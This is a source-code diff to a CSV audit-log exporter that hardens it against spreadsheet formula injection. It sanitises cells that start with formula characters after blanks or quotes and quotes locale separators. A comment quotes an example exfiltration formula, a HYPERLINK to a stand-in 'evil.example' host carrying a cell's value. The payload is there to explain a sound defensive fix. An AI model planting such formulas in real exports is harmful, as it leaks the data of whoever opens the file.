@@ -9,35 +9,40 @@ namespace {
 
 // CSV formula injection ("CSV injection", OWASP): Excel, LibreOffice Calc and Google Sheets
 // evaluate a cell that starts with = + - or @ as a formula, and some also do so after a leading
-// tab or CR. A logged command such as `=HYPERLINK("https://evil.example/?"&A1)` or `@SUM(...)`
-// would then run in the spreadsheet of whoever opens the export. Free text from the log (host,
-// user, command, signal) that starts with one of these characters therefore gets a leading
-// single quote, which spreadsheets take as "this cell is text". Scripts reading the file see the
-// quote too; that is the price of a safe default. Fields this file formats itself (times, numbers,
-// risk and status names) cannot hold a formula and are written unchanged, so a negative number
-// stays a number.
+// tab or CR, or after blanks and quotes they skip. A logged command such as
+// `=HYPERLINK("https://evil.example/?"&A1)` or `@SUM(...)` would then run in the spreadsheet of
+// whoever opens the export. Every cell that could be read so therefore gets a leading single
+// quote, which spreadsheets take as "this cell is text": whatever its column, also cells this
+// file formats itself (a negative number becomes text, the price of one rule for all). Scripts
+// reading the file see the quote too; that is the price of a safe default.
+bool isFormulaStart(QChar c)
+{
+    return c == u'=' || c == u'+' || c == u'-' || c == u'@';
+}
+
 QString defuseFormula(const QString &text)
 {
     if (text.isEmpty())
         return text;
-    switch (text.front().unicode()) {
-    case u'=':
-    case u'+':
-    case u'-':
-    case u'@':
-    case u'\t':
-    case u'\r':
+    if (text.front() == u'\t' || text.front() == u'\r')
         return u'\'' + text;
-    default:
-        return text;
-    }
+    qsizetype start = 0;
+    while (start < text.size() &&
+           (text.at(start).isSpace() || text.at(start) == u'"' || text.at(start) == u'\''))
+        ++start;
+    if (start < text.size() && isFormulaStart(text.at(start)))
+        return u'\'' + text;
+    return text;
 }
 
-// RFC 4180, 2.6 and 2.7.
+// RFC 4180, 2.6 and 2.7. Also quoted: cells with a semicolon or a tab, which spreadsheets in
+// many locales (German Excel: ';') take as the separator, so that text after it would become a
+// cell of its own, one that could start with '='.
 QString csvField(const QString &value)
 {
     const bool needsQuotes = value.contains(u',') || value.contains(u'"') ||
-                             value.contains(u'\r') || value.contains(u'\n');
+                             value.contains(u'\r') || value.contains(u'\n') ||
+                             value.contains(u';') || value.contains(u'\t');
     if (!needsQuotes)
         return value;
     QString quoted = value;
@@ -45,7 +50,8 @@ QString csvField(const QString &value)
     return u'"' + quoted + u'"';
 }
 
-QString textField(const QString &text)
+// Every cell goes through here.
+QString cell(const QString &text)
 {
     return csvField(defuseFormula(text));
 }
@@ -72,14 +78,24 @@ QString auditEntriesToCsv(const QList<AuditEntry> &entries)
                   LineEnd;
     for (const AuditEntry &entry : entries) {
         const QStringList fields{
-            timeField(entry.startedAt),     timeField(entry.finishedAt),
-            textField(entry.host),          textField(entry.remoteUser),
-            textField(entry.command),       riskId(entry.risk),
-            auditStatusName(entry.status),  numberField(entry.exitCode),
-            textField(entry.signalName),    numberField(entry.durationMs),
-            numberField(entry.outputBytes), numberField(entry.incidentId),
+            timeField(entry.startedAt),
+            timeField(entry.finishedAt),
+            entry.host,
+            entry.remoteUser,
+            entry.command,
+            riskId(entry.risk),
+            auditStatusName(entry.status),
+            numberField(entry.exitCode),
+            entry.signalName,
+            numberField(entry.durationMs),
+            numberField(entry.outputBytes),
+            numberField(entry.incidentId),
         };
-        csv += fields.join(u',') + LineEnd;
+        QStringList cells;
+        cells.reserve(fields.size());
+        for (const QString &field : fields)
+            cells.append(cell(field));
+        csv += cells.join(u',') + LineEnd;
     }
     return csv;
 }
